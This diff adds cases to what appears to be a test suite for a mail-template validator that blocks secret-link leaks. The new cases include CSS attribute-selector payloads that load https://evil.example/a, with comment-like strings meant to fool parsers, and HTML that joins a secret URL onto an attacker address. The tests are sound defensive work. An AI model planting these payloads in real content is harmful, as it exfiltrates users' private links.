@@ -86,6 +86,13 @@ const ELSEWHERE = [
   `<style>@media all { a[href*="/a"] { background: url(https://evil.example/a) } }</style>`,
   `<style>@media all { a[\\68 ref*="/a"] { background: url(https://evil.example/a) } }</style>`,
   `<style>@font-face { font-family: x; src: url(https://evil.example/a); unicode-range: U+61 }</style>`,
+  // What looks like a comment is part of a text.
+  `<style>@media screen { .x{content:"/*"} a[href*="/a"]{background:url(https://evil.example/a)} .y{content:"*/"} }</style>`,
+  `<style>@media screen { .x{background:url(/*)} a[/*]*/href*="/a"]{background:url(https://evil.example/a)} .y{background:url(*/)} }</style>`,
+  // The plain text of the mail has nothing for these, so that the link would go on with the address before it.
+  `<p>https://evil.example/<img alt="" src="https://a.example/c.png" width="1">${URL}</p>`,
+  `<p>https://evil.example/?<ruby>${URL}</ruby></p>`,
+  `<p><a href="https://evil.example/?l="></a>${URL}</p>`,
 ]
 
 describe('a secret link', () => {
@@ -106,6 +113,17 @@ describe('a secret link', () => {
   ])('is accepted as both: %s', async (content) => {
     const reply = await save(content)
     expect(reply.status, reply.body.message).toBe(200)
+  })
+
+  test('is looked for in time that grows with the text: many brackets in a style take no longer than as many letters', async () => {
+    const timeOf = async (sign: string) => {
+      const began = performance.now()
+      await create(`<style>${sign.repeat(25_000)}</style><p>{{ request.url }}</p>`)
+      return performance.now() - began
+    }
+    await timeOf('a')
+    const calm = await timeOf('b')
+    expect(await timeOf('[')).toBeLessThan(20 * calm + 500)
   })
 
   test('is refused in a subject', async () => {
